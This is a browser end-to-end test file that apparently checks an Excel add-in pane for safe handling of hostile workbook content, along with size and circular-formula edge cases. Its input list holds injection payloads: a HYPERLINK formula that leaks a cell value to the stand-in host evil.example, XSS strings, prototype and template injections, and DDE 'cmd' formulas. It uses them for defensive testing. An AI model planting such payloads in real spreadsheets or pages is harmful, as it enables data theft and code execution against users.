/** @jest-environment ./test/e2e/environment.ts */
import { expect, it } from "@jest/globals";
import { strFromU8, unzipSync } from "fflate";
import type { WriteSheet } from "hucre";
import { readXlsx } from "hucre/xlsx";
import { poiSheet } from "../poi/poi-sheet";
import { describeInBrowser } from "./browser";
import { bookOf, type ExcelInBrowser } from "./excel";

/** What runs sets this on the window. */
const RUNS = "window.hasRun=true;top.hasRun=true";

const NAMES = [
  '=HYPERLINK("https://evil.example/?"&E5,"clic")',
  `<img src=x onerror="${RUNS}">`,
  `<script>${RUNS}</script>`,
  `"><svg onload="${RUNS}"><a href="javascript:${RUNS}">x</a>`,
  "${globalThis.hasRun=true}{{constructor.constructor('hasRun=true')()}}",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u202eodatucejE\u202c \u200f\u2066",
  "👩‍💼 actividad 📊 ñandú",
  "__proto__",
  "constructor",
  "x".repeat(32_767),
  "a\u0001b\u0000c\td",
] as const;

const SHEET = `O'Higgins <b>&"`;

const cellsOf = (values: ReturnType<typeof poiSheet>["values"]): WriteSheet["rows"] =>
  values.map((row) => row.map((value) => (value === "" ? null : value)));

describeInBrowser("whatever a workbook contains, the pane neither breaks nor runs it", (open) => {
  let excel: ExcelInBrowser;

  const openRows = async (...book: Parameters<typeof bookOf>): Promise<void> => {
    excel = await open({ book: await bookOf(...book) });
  };

  async function expectNothingRan(): Promise<void> {
    for (const frame of excel.page.frames()) {
      expect(await frame.evaluate(() => "hasRun" in window)).toBe(false);
    }
    const { pane } = excel;
    expect(await pane.locator("main img, main script, main svg[onload], main a").count()).toBe(0);
  }

  /** Waits until the pane says what came of it: findings, or why not. */
  async function outcome(): Promise<string> {
    const said = excel.pane.locator(".verdict-line, [role=alert]").first();
    await said.waitFor();
    await excel.idle();
    return (await said.textContent()) ?? "";
  }

  it("names and texts with formulas, HTML, script, marks, emoji and control characters", async () => {
    const { values } = poiSheet({
      title: `<img src=x onerror="${RUNS}"> POI 2021 - EJECUCIÓN AL IV TRIMESTRE`,
      activities: NAMES.map((name) => ({
        unit: name,
        activity: name,
        measure: name,
        executed: Array<number>(12).fill(0),
        cells: { E: 13, F: `<img src=x onerror="${RUNS}">` },
      })),
      total: true,
    });
    await openRows(`<img src=x onerror=alert(1)>.xlsx`, { [SHEET]: cellsOf(values) });
    await excel.press("Validar");
    expect(await outcome()).toMatch(/errores/);
    const { pane, page } = excel;
    await pane.getByText(NAMES[1], { exact: false }).first().waitFor();
    await expectNothingRan();
    await pane.locator("#tab-execution").click();
    await pane.getByRole("region").first().waitFor();
    await expectNothingRan();
    await pane.locator("#tab-settings").click();
    await pane.getByText(SHEET, { exact: false }).first().waitFor();
    await expectNothingRan();

    await excel.press("Resumen");
    await page.waitForFunction(() => window.cuadraHost.sheets.length === 2);
    await excel.idle();
    await expectNothingRan();
    const { bytes } = await excel.download();
    const summary = (await readXlsx(bytes)).sheets[1];
    const texts = new Set(summary.rows.flat());
    for (const name of NAMES.slice(0, 4)) expect(texts).toContain(name);
    for (const [name, part] of Object.entries(unzipSync(bytes))) {
      const text = strFromU8(part);
      expect([name, /<f[ >][^<]*(evil\.example|cmd\|)/.test(text)]).toEqual([name, false]);
      if (name.endsWith(".rels"))
        expect([name, /TargetMode="External"/.test(text)]).toEqual([name, false]);
    }
  });

  it("255 sheets", async () => {
    const { values } = poiSheet({ activities: [{}, { cells: { E: 13 } }] });
    const sheets: Record<string, WriteSheet["rows"]> = { POI: cellsOf(values) };
    for (let at = 2; at <= 255; at++) sheets[`Hoja ${at}`] = [["nada"]];
    await openRows("muchas.xlsx", sheets);
    await excel.press("Validar");
    expect(await outcome()).toMatch(/1 error/);
  });

  it("16,384 columns", async () => {
    const { values } = poiSheet({ activities: [{}, { cells: { E: 13 } }] });
    const rows = cellsOf(values) ?? [];
    const wide = rows.map((row) => [...row, ...Array<string>(16_384 - row.length).fill("x")]);
    await openRows("ancho.xlsx", { POI: wide });
    await excel.press("Validar");
    expect(await outcome()).not.toBe("");
  });

  it("circular formulas", async () => {
    const { values } = poiSheet({ activities: [{}, { cells: { E: 13 } }] });
    await openRows("circular.xlsx", { POI: cellsOf(values) });
    await excel.type("E5", "=F5");
    await excel.type("F5", "=E5");
    await excel.press("Validar");
    expect(await outcome()).toMatch(/error/);
    await excel.press("Resumen");
    await excel.page.waitForFunction(() => window.cuadraHost.sheets.length === 2);
    await excel.idle();
    expect((await excel.download()).bytes.length).toBeGreaterThan(0);
  });
});
